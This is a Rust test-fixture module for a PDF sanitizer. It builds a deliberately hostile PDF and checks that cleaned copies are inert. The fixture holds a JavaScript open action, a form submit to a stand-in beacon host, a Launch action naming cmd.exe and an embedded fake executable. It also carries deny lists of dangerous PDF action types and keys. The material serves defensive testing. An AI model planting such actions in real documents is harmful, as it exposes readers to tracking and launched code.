//! A hostile PDF and hand-written PDF bombs, shared by vigie-sanitize's tests and vigie-web's
//! HTTP tests (included there with `#[path]`), with the checks that a clean copy is inert.
#![allow(dead_code, clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use lopdf::{Dictionary, Document, Object, SaveOptions, Stream, dictionary};

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

pub const BEACON: &[u8] = b"https://beacon.example.net/opened?who=handler";
pub const SCRIPT: &[u8] =
    b"app.alert('CANARY-SCRIPT'); this.submitForm('https://beacon.example.net/form');";
pub const PAYLOAD: &[u8] = b"MZ\x90\0CANARY-EXECUTABLE This program cannot be run in DOS mode.";
pub const PAGE_TEXT: &[u8] = b"BT /F1 24 Tf 72 700 Td (Signalement) Tj ET";

/// Action types: no clean copy may hold them anywhere, as keys or as names.
const ACTIONS: &[&[u8]] = &[
    b"JavaScript",
    b"Launch",
    b"URI",
    b"SubmitForm",
    b"ImportData",
    b"GoToR",
    b"GoToE",
];

/// Other keys no clean copy may hold anywhere.
const KEYS: &[&[u8]] = &[
    b"JS",
    b"OpenAction",
    b"AA",
    b"EmbeddedFiles",
    b"EF",
    b"AcroForm",
    b"XFA",
    b"Annots",
];

/// Other names no clean copy may hold as values (annotation and file types).
const NAMES: &[&[u8]] = &[
    b"EmbeddedFile",
    b"FileAttachment",
    b"Link",
    b"Widget",
    b"Annot",
    b"Action",
    b"ObjStm",
];

fn action(kind: &str, extra: Dictionary) -> Object {
    let mut d = dictionary! { "Type" => "Action", "S" => kind };
    d.extend(&extra);
    Object::Dictionary(d)
}

// Long on purpose: a table of data, the hostile document's objects one after the other.
/// The hostile document; `modern` puts every object it can inside object streams.
pub fn hostile_pdf(modern: bool) -> Vec<u8> {
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let font_id = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Courier",
    });
    let content_id = doc.add_object(Stream::new(dictionary! {}, PAGE_TEXT.to_vec()));
    let script_id = doc.add_object(Stream::new(dictionary! {}, SCRIPT.to_vec()));
    let exe_id = doc.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile", "Subtype" => "application#2Fx-msdownload" },
        PAYLOAD.to_vec(),
    ));
    let filespec_id = doc.add_object(dictionary! {
        "Type" => "Filespec",
        "F" => Object::string_literal("facture.exe"),
        "UF" => Object::string_literal("facture.exe"),
        "EF" => dictionary! { "F" => exe_id },
    });
    let uri = action(
        "URI",
        dictionary! { "URI" => Object::string_literal(BEACON) },
    );
    let link_id = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Link",
        "Rect" => vec![72.into(), 600.into(), 300.into(), 620.into()],
        "A" => uri,
    });
    let attachment_id = doc.add_object(dictionary! {
        "Subtype" => "FileAttachment",
        "Rect" => vec![72.into(), 500.into(), 90.into(), 520.into()],
        "FS" => filespec_id,
    });
    let field_id = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx",
        "T" => Object::string_literal("nom"),
        "Rect" => vec![72.into(), 400.into(), 300.into(), 420.into()],
        "AA" => dictionary! {
            "K" => action("JavaScript", dictionary! { "JS" => script_id }),
        },
        "A" => action("SubmitForm", dictionary! {
            "F" => dictionary! { "FS" => "URL", "F" => Object::string_literal(BEACON) },
        }),
    });
    let launch = action(
        "Launch",
        dictionary! {
            "F" => Object::string_literal("facture.exe"),
            "Win" => dictionary! { "F" => Object::string_literal("cmd.exe") },
            "Next" => action("ImportData", dictionary! { "F" => Object::string_literal("data.fdf") }),
        },
    );
    let page_id = doc.add_object(dictionary! {
        "Type" => "Page",
        "Parent" => pages_id,
        "Contents" => content_id,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font_id } },
        "Annots" => vec![link_id.into(), attachment_id.into(), field_id.into()],
        "AA" => dictionary! {
            "O" => launch,
            "C" => action("GoToR", dictionary! {
                "F" => Object::string_literal(BEACON), "D" => vec![0.into()],
            }),
        },
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(
            dictionary! { "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1 },
        ),
    );
    let open_id = doc.add_object(action(
        "JavaScript",
        dictionary! { "JS" => Object::string_literal(SCRIPT) },
    ));
    let catalog_id = doc.add_object(dictionary! {
        "Type" => "Catalog",
        "Pages" => pages_id,
        "OpenAction" => open_id,
        "AA" => dictionary! {
            "WC" => action("GoToE", dictionary! { "NewWindow" => true }),
        },
        "URI" => dictionary! { "Base" => Object::string_literal(BEACON) },
        "Names" => dictionary! {
            "JavaScript" => dictionary! {
                "Names" => vec![Object::string_literal("init"), open_id.into()],
            },
            "EmbeddedFiles" => dictionary! {
                "Names" => vec![Object::string_literal("facture.exe"), filespec_id.into()],
            },
        },
        "AcroForm" => dictionary! {
            "Fields" => vec![field_id.into()],
            "XFA" => Object::string_literal("<xdp:xdp><script>CANARY-XFA</script></xdp:xdp>"),
        },
        "Outlines" => dictionary! {
            "Type" => "Outlines",
            "First" => dictionary! {
                "Title" => Object::string_literal("Lien"),
                "A" => action("URI", dictionary! { "URI" => Object::string_literal(BEACON) }),
            },
        },
    });
    doc.trailer.set("Root", catalog_id);
    let mut out = Vec::new();
    if modern {
        let options = SaveOptions::builder()
            .use_object_streams(true)
            .use_xref_streams(true)
            .build();
        doc.save_with_options(&mut out, options).unwrap();
    } else {
        doc.save_to(&mut out).unwrap();
    }
    out
}

/// The first forbidden key or name anywhere in `object`.
pub fn forbidden(object: &Object) -> Option<String> {
    match object {
        Object::Name(n) if ACTIONS.contains(&n.as_slice()) || NAMES.contains(&n.as_slice()) => {
            Some(String::from_utf8_lossy(n).into_owned())
        }
        Object::Array(items) => items.iter().find_map(forbidden),
        Object::Dictionary(d) => forbidden_in(d),
        Object::Stream(s) => forbidden_in(&s.dict),
        _ => None,
    }
}

pub fn forbidden_in(d: &Dictionary) -> Option<String> {
    for (k, v) in d.iter() {
        if ACTIONS.contains(&k.as_slice())
            || KEYS.contains(&k.as_slice())
            || (k == b"A" && matches!(v, Object::Dictionary(_) | Object::Reference(_)))
        {
            return Some(String::from_utf8_lossy(k).into_owned());
        }
        if let Some(f) = forbidden(v) {
            return Some(f);
        }
    }
    None
}

/// Every object of a clean copy, parsed back: none forbidden, no object stream.
pub fn assert_inert(clean: &[u8]) {
    for canary in [
        BEACON,
        b"CANARY-SCRIPT",
        b"CANARY-EXECUTABLE",
        b"CANARY-XFA",
        b"cmd.exe",
    ] {
        assert!(
            !contains(clean, canary),
            "{} survived",
            String::from_utf8_lossy(canary)
        );
    }
    assert!(!contains(clean, b"/ObjStm"), "an object stream was kept");
    let doc = Document::load_mem(clean).unwrap();
    if let Some(f) = forbidden_in(&doc.trailer) {
        panic!("the trailer holds {f}");
    }
    for (id, object) in &doc.objects {
        if let Some(f) = forbidden(object) {
            panic!("object {id:?} holds {f}: {object:?}");
        }
    }
    let pages = doc.get_pages();
    assert_eq!(pages.len(), 1, "the page is kept");
    let page_id = *pages.values().next().unwrap();
    assert!(doc.get_page_content(page_id).starts_with(PAGE_TEXT));
}

/// `data` compressed with Flate.
pub fn flate(data: Vec<u8>) -> Vec<u8> {
    let mut s = Stream::new(dictionary! {}, data);
    s.compress().unwrap();
    assert!(s.dict.has(b"Filter"));
    s.content
}

/// An object stream of `n` objects whose first starts at `first`, compressed (lopdf's writer
/// rebuilds object streams, so these are written by hand).
pub fn object_stream(content: Vec<u8>, n: usize, first: usize) -> Vec<u8> {
    let data = flate(content);
    let mut out = format!(
        "<< /Type /ObjStm /N {n} /First {first} /Filter /FlateDecode /Length {} >>\nstream\n",
        data.len()
    )
    .into_bytes();
    out.extend_from_slice(&data);
    out.extend_from_slice(b"\nendstream");
    out
}

/// A one-page document written by hand, with `extra` objects (numbered from 5) after it.
pub fn raw_pdf(extra: &[Vec<u8>]) -> Vec<u8> {
    let content = format!(
        "<< /Length {} >>\nstream\n{}\nendstream",
        PAGE_TEXT.len(),
        String::from_utf8_lossy(PAGE_TEXT)
    );
    let mut bodies: Vec<&[u8]> = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 595 842] >>",
        content.as_bytes(),
    ];
    bodies.extend(extra.iter().map(Vec::as_slice));
    pdf_file("1.7", &bodies, "/Root 1 0 R")
}

/// A PDF written by hand: `%PDF-{version}`, `objects` numbered from 1, a cross-reference table and a
/// trailer `<< /Size n {trailer} >>`.
pub fn pdf_file(version: &str, objects: &[&[u8]], trailer: &str) -> Vec<u8> {
    let mut out = format!("%PDF-{version}\n").into_bytes();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    let size = objects.len() + 1;
    out.extend_from_slice(format!("xref\n0 {size}\n0000000000 65535 f \n").as_bytes());
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    let end = format!("trailer\n<< /Size {size} {trailer} >>\nstartxref\n{xref}\n%%EOF\n");
    out.extend_from_slice(end.as_bytes());
    out
}
